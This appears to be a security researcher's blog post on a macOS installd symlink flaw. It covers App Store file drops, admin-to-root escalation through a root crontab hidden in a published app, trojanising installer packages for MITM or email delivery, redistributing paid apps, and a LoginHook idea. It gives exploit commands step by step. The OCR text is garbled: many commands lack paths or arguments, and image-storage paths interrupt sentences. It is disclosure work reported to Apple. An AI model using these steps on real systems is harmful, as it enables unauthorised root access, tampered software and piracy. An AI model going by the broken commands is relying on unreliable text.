Taking it further - Dropping AppStore files anywhere Link to headingAt this point I had another idea. Since installd runs as root, can we use it to place the app somewhere else or certain parts of it? The answer is YES. Let’s say I want to drop the App’s main mach-o file in a folder where only root has access, e.g.: /opt (folders protected by SIP, like /System won’t work, as even root doesn’t have access there). Here are the steps to reproduce it: Step 1-2 is the same as in the previous case. 3. Create the following folder structure: /Applications/ 4. Create a symlink ‘MacOS’ pointing to /opt: ln -s /opt /Applications/ The main mach-o file is typically in the following folder: /Applications/ and now in our case we point this to /opt 5. Install the App

What happens at this point, is that the App will install normally, except that any files under /Applications/ will go to /opt. If there was a file with the name of the mach-o file, that will be overwritten. Essentially what we can achieve with this is to drop any files that can be found in an AppStore app to a location we control.

What can’t we do? (Or at least I didn’t find a way) Link to heading

  1. Change the name of the file beingdropped, or with other words, put the contents of one file into another one with different name. If we create a symlink for the actualmach-o file, like: ln -s /opt/myname /Applications/ What will happen is that the symlinkwill be overwritten, when the installd daemon moves the file from the temporary location to the final. You can find the same behaviour if you experiment with the mv command:
$ echo aaa > a
$ ln -s a b
$ ls -la
total 8
drwxr-xr-x   4 csaby  staff   128 Sep 11 16:16 .
drwxr-xr-x+ 50 csaby  staff  1600 Sep 11 16:16 ..
-rw-r--r--   1 csaby  staff     4 Sep 11 16:16 a
lrwxr-xr-x   1 csaby  staff     1 Sep 11 16:16 b -> a
$ cat b
$ echo bbb >> b
$ cat b
$ touch c$ ls -l
total 8
-rw-r--r--  1 csabystaff  8 Sep 11 16:16 a
lrwxr-xr-x  1 csaby  staff  1 Sep 11 16:16 b -> a
-rw-r--r--  1 csaby  staff  0 Sep 11 16:25 c
$ mv c b
$ ls -la
total 8
drwxr-xr-x   4 csaby  staff   128 Sep 11 16:25 .
drwxr-xr-x+ 50 csaby  staff  1600 Sep 11 16:16 ..
-rw-r--r--   1 csaby  staff     8 Sep 11 16:16 a
-rw-r--r--   1 csaby  staff     0 Sep 11 16:25 b
  1. Even if we create a hardlink instead of symlink, that will be overwritten like in the 1st case.
  2. As noted earlier we can’t write to folder protected by SIP.

Ideas for using this for privilege escalation Link toheading

Based on the above I had the following ideas for privilege escalation from admin to root:

  1. Find a file in the AppStore that has the same name as a process that runs as root, and replace that file.
  2. Find a file in the AppStore that has a cron job line inside and called “root”, you could drop that into /usr/lib/cron/tabs
  3. If you don’t find one, you can potentially create a totally harmless App, that will give you an interactive prompt, or something similar, upload it to the AppStore (it should bypass Apple’s vetting process as it will nothing do any harm). For example your file could contain an example root crontab file,which start Terminal every hour. You could place that in the crontab folder.
  4. Make a malicious dylib, upload it as part of an app to the Appstore and drop that, so an app running as root will load it

Reporting to Apple Link to heading

I will admit that at this point I took the lazy approach and reported the above to Apple, mainly because:

  • I found it very unlikely that I will find a suitable file that satisfies either #1 or #2
    • Xcode almost satisfied #2 as it has some cron examples, but not named as root
  • I had 0 experience in developing AppStore apps, and I couldn’t code neither in Objective-C or Swift
  • I had better things to do at work and after work :)

So I reported and then Apple came back at one point for my privilege escalation ideas: “The App Review process helps prevent malicious applications from becoming available on the Mac and iOS App Stores.“

Obviously Apple didn’t understood the problem for first, it was either my fault not explaining it properly or they didn’t understood it, but it was clear that there was a misunderstanding between us, so I felt that I have to prove my point if I want this fixed. So I took a deep breath and gone the “Try Harder” approach and decided to develop an App and submit it to the AppStore.

Creating an App Link to heading

Aftersome thinking I decided that I will create an application that will have a crontab file for root, and I will drop it to the /usr/lib/cron/tabs folder. The app had to do something meaningful in order to submit it, and to be accepted, so I came up with the idea of creating a cronjob editor app. It’s also useful, and would also explain why I have a crontab files embedded. Here is my journey:

Apple developer ID Link to heading

In order to submit any App to the store you have to sign up for the developer program. I signed up with a new Apple ID for the Apple developer program just because I had the fear that they will ban me, once I introduce an app that can be used for private escalation. In fact they didn’t. It’s 99$/ annum.

Choosing a language Link to heading

I had no prior knowledge of either Objective C or Swift, but looking on the following syntax for Obj-C, freaked me out:

myFraction = [[Fraction alloc] init];

This is how you call methods of objects and pass parameters. It’s against every syntax I ever knew and I just didn’t want to consume this. So I looked at Swift which looked much nicer in this space and decided to go with that. :)

Learning Swift Link to heading

My company has a subscription to one of the big online training portals, where I found a short, few hour long course about introduction to Cocoa app development with Swift. It was an interesting course, and it turned out to be sufficient, basically it covered how to put together a simple window based GUI. It also turned out that there is Swift 1 and 2 and 3 and 4, as the language evolved, and the syntax is also changed over time a bit, so you need to pick up the right training.

Publishing to the store - The Process Link to heading

  1. Become an Apple Developer, costs 99$/year

  2. Login to App Store Connect and create a Bundle ID: image3

  3. Go back and create a new App referring the Bundle IDyou created: image4

  4. Populate the details (license page, description, etc…)

  5. Upload your app from Xcode

  6. Populate more details if needed

  7. Submit for review

Publishing to the store - The error problem Link to heading

Developing the App was pretty quick, but publishing it was really annoying, because I really wanted to see that my idea is indeed works. So once I pushed it, I had to wait ~24 hours for it being reviewed. I was really impatient and nervous about if I can truly make it to the store :) The clock ticked, and it was rejected! :( The reason was that when I clicked the close button, the app didn’t exit and the user had now way to bring back the window. I fixed it, resubmit, wait again ~24 hours. Approved! I quickly went to the store, prepared the exploit, and clicked install. Meanwhile during the development I upgraded myself to Mojave, and never really did any other tests with other apps. So it was really embarrassing to notice, that in Mojave this exploit path doesn’t work :( No problem, I have a High Sierra VM, let’s install it there! There I got a popup, that the minimum version required for the App is 10.14 (Mojave), and I can’t put it on HS… :( damn, it’s an easy fix, but that means resubmit again, wait ~24 hours. Finally it got approved again, and the exploit worked on High Sierra! :) It was a really annoying process, as every time I made a small mistake, fixing it meant 24 hours, even if the actual fix in the code, took 1 minute.

The App Link to headingThe application I developed, is called “Crontab Creator”, which is actually very useful for creating crontab files. It’s still there and available, and as it turns out, there are a few people using it. Crontab Creator on the Mac App Store


The application is absolutely benign! However it contains different examples for crontab files, which are all stored as separate files within the application. The only reason I didn’t store the strings embedded in the source code is to be able to use it for exploitation :) Among these there is one called ‘root’, which will try to execute a script from the _Applications_Scripts folder.

Privilege Escalation on High Sierra Link to heading

The Crontab Creator app contains a file named ‘root’ as an example for crontab file, along with 9 others. The content is the following:

* * * * * /Applications/Scripts/

Obviously thisscript doesn’t exists by default, but you can easily create it in the /Application folder, as you have write access, and at that point you can put anything you want into it.

The steps for the privilege escalation are as follows. First we need to create the app folder structure, and place a symlink there.

cd /Applications/
mkdir "Crontab"
cd Crontab\
mkdir Contents
cd Contents/
ln -s /usr/lib/cron/tabs/ Resources

Then we need to create the script file, which will be run every minute, I choose to run Terminal.

cd /Applications/
mkdir Scripts
cd Scripts/
echo /Applications/Utilities/ >
chmod +x

Then we need to install the application from the store. We can do this either via the GUI, or we can do it via the CLI if we install brew, and then mas.


/usr/bin/ruby -e "$(curl -fsSL"
brew install mas
mas install 1438725196

In summary utilizing the previous vulnerabilities we can drop the file into the crontab folder, create the script with starting Terminal inside it, and in a minute we got a popup and root access.

The fix Link to headingAs noted before, Apple fixed this exploit path in Mojave. This was in 2018 October, my POC didn’t work anymore, and without further testing I honestly thought that the privilege escalation issue is fixed - yes you could still drop files inside the app, but I thought that the symlink issue is solved. I couldn’t have been more wrong! But this turned out only later.

Infecting installers without breaking the Application’s signature Link to heading

The next part is where we want to bypass root folder permission for manually installed apps. We can’t do a true bypass / privilege escalation here, as during the installation the user haveto enter his/her password, but we can still apply the previous idea. However here I want to show another method, and that’s how to embed our custom file into an installer package. If we can MITM a pkg download, we could replace it with our own one, or we can simply deliver it to the user via email or something.

As a side note, interestingly AppStore apps are downloaded through HTTP, you can’t really alter it, as the hash is downloaded via HTTPS and the signature will also verified.

Here are the steps, how to include your custom file in a valid package:

  1. Grab an installer pkg, for example from the AppStore (Downloading installer packages from the Mac App Store with AppStoreExtract | Der Flounder)
  2. Unpack the pkg: pkgutil --expand example.pkg myfolder
  3. Enter the folder, and decompress the embedded Payload (inside the embedded pkg folder): tar xvf embedded.pkg/Payload
  4. Embedded your file (it can be anywhere and anything):
$ mkdir
$ echo aaaa >
  1. Recompress the app: find ./ | cpio -o --format odc | gzip -c > Payload
  2. Delete unnecessary files, and move the Payload to the embedded pkg folder.
  3. Repack the pkg pkgutil --flatten myfolder/ mypackage.pkgThe package’s digital signature will be lost, so you will need a method to bypass Gatekeeper. The embedded App’s signature will be also broken, as these days every single file inside an .app bundle must be digitally signed. Typically the main mach-o file is signed, and it has the hash of the _CodeSignatures plist file. The file will contain all the hashes for the other files. If you place a new file inside the .app bundle that will invalidate the signature. However this is not a problem here, as if you can bypass Gatekeeper for the .pkg file, the installed Application will not be subject to Gatekeeper’s verification.

Redistributing paid apps Link to heading

Using the same tool as in the previous example we can grab the installer for a given application. If you keep a paid app this way, it will still work somewhere else even if that persondidn’t pay for the app. There is no default verification in an application if it was purchased or not, it also doesn’t contain anything that tracks this. With that, if you buy an application, you can easily distribute it somewhere else. In-App purchases probably won’t work as those are tied to the Apple ID, and if there is another activation needed, that could be also a good countermeasure. But apps that doesn’t have these can be easily stolen. Developers should build-in some verification of Apple IDs. I’m not sure that it’s possible but would be useful for them.

Privilege escalation returns on Mojave Link to heading

The fix Link to heading

This year (2019) I’ve been talking to a few people about this, and it hit me, that I didn’t do anyfurther checks if symlinks are completely broken (during the installation) or not. It turned out that they are still a thing.

The way the fix is working is that installd has no longer access to the crontab folder (/usr/lib/cron/tabs) even running as root, so it won’t be able to create files there. I’m not even sure that this is a direct fix for my POC or some other coincidence. We can find the related error message in /var/log/install.log (you can use the Console app for viewing logs):

2019-01-31 20:44:49+01 csabymac shove[1057]: [source=file] failed _RelinkFile(/var/folders/zz/zyxvpxvq6csfxvn_n0000000000000/C/PKInstallSandboxManager/401FEDFC-1D7B-4E47-A6E9-E26B83F8988F.activeSandbox/Root/Applications/Crontab, /private/var/at/tabs/peter): Operation not permitted

The problem Link to heading

The installd process had still access to other folders, and can drop files there during the redirection, and those could be abused as well. I tested and you could redirect file writes to the following potentially dangerous folders:


Someone could drop a file called, which can contain a LoginHook, which will run as root.


